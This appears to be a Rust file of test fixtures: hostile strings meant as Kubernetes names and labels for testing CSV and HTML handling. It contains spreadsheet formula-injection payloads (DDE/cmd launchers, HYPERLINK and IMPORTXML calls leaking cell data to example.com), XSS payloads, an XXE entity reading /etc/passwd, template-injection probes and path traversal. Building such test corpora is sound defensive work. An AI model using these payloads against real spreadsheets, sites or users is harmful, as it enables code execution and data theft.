//! Names that do harm where a file takes them for more than text.
//!
//! Rule: every entry is a namespace, a pod, a Job and a CronJob somewhere, since whoever may write to a cluster may call things so, or label them so.

/// What spreadsheets take for formulas, links or other kinds of cells: at the beginning, and after what is cut off or ends a cell of a CSV.
pub const FORMULAS: [&str; 38] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"click me\")",
    "=IMPORTXML(CONCAT(\"http://example.com/?v=\",A1),\"//a\")",
    "=WEBSERVICE(\"http://example.com/\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "+1+1",
    "+cmd|' /C notepad'!A1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "'=1+1",
    "''=1+1",
    "\"=1+1",
    "\",=1+1,\"",
    ",=1+1",
    ";=1+1",
    "|=1+1",
    "{=1+1}",
    "x\n=1+1",
    "x,=1+1",
    "x\"\n=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(A1)",
    "SUBTOTAL(109,A1:A9)",
    "#REF!",
    "1e999",
    "0x1F",
    "2026-10-31",
];

/// What a page takes for elements, attributes or a script, after each way out of a text, an attribute, a comment, a style or a script.
pub const MARKUP: [&str; 34] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//example.com/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "x onmouseover=alert(1) y",
    "javascript:alert(1)",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=x>",
    "<base href=//example.com/>",
    "<meta http-equiv=refresh content=\"0;url=//example.com/\">",
    "<link rel=stylesheet href=//example.com/x.css>",
    "<form action=//example.com/><input name=x>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--",
    "<![CDATA[x]]>",
    "]]><x/>",
    "<?xml version=\"1.0\"?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
];

/// Characters that a format does not have, or that hide, turn or fall together, and names that are long.
pub fn odd_characters() -> Vec<String> {
    let long = |piece: &str| piece.repeat(4_096 / piece.len());
    let mut names: Vec<String> = [
        "nul\0nul",
        "esc\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
        "bell\u{7}back\u{8}del\u{7f}",
        "vertical\u{b}feed\u{c}unit\u{1f}",
        "next-line\u{85}line\u{2028}paragraph\u{2029}",
        "not-a-character\u{fffe}",
        "not-a-character\u{ffff}",
        "beyond\u{1fffe}\u{10ffff}",
        "\u{feff}byte-order-mark",
        "\u{d7ff}\u{e000}beside-the-surrogates",
        "\u{202e}gnitirw\u{202c}",
        "zero\u{200b}width\u{2060}",
        "caf\u{e9}",
        "cafe\u{301}",
        "\u{1d49c}\u{1f680}",
        "_x0041_",
        "_x000D_",
        "_x005F_x0041_",
        "&#0;&#x1b;",
        "\\u0000\\ud800",
        "%00%0d%0a",
        "   ",
        " between spaces ",
        "hard\u{a0}space",
        "cr\rlf\ncrlf\r\nend",
        "../../etc/passwd",
        "C:\\Windows\\System32",
        "\u{fffd}",
    ]
    .map(str::to_owned)
    .into();
    names.extend([long("a"), long("\u{1f680}"), long("\""), long("<>&"), long("\u{1}")]);
    names
}

#[test]
fn long_names_are_of_four_kibibytes() {
    assert!(odd_characters().iter().rev().take(5).all(|name| (4_095..=4_096).contains(&name.len())));
}
